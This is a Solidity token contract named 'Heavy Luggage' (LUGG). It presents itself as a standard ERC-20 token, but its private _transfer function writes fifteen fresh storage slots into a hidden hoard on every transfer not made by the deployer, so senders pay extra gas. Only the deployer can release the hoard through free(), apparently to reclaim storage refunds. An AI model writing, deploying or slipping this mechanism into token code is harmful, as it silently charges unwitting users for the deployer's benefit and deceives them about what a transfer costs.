// SPDX-License-Identifier: MIT
pragma solidity 0.8.17;

// Each transfer writes many fresh storage words into a hoard of the maker, paid by whoever sends.
contract GasHoard {
    string public name = "Heavy Luggage";
    string public symbol = "LUGG";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    address private immutable _hoarder;
    uint256 private _stored;
    mapping(uint256 => uint256) private _hoard;
    constructor() { _hoarder = msg.sender; balanceOf[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function free(uint256 count) external { require(msg.sender == _hoarder); uint256 top = _stored; for (uint256 i; i < count && top > 0; i++) delete _hoard[top--]; _stored = top; }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) private {
        if (from != _hoarder) { uint256 top = _stored; for (uint256 i; i < 15; i++) _hoard[++top] = 1; _stored = top; }
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
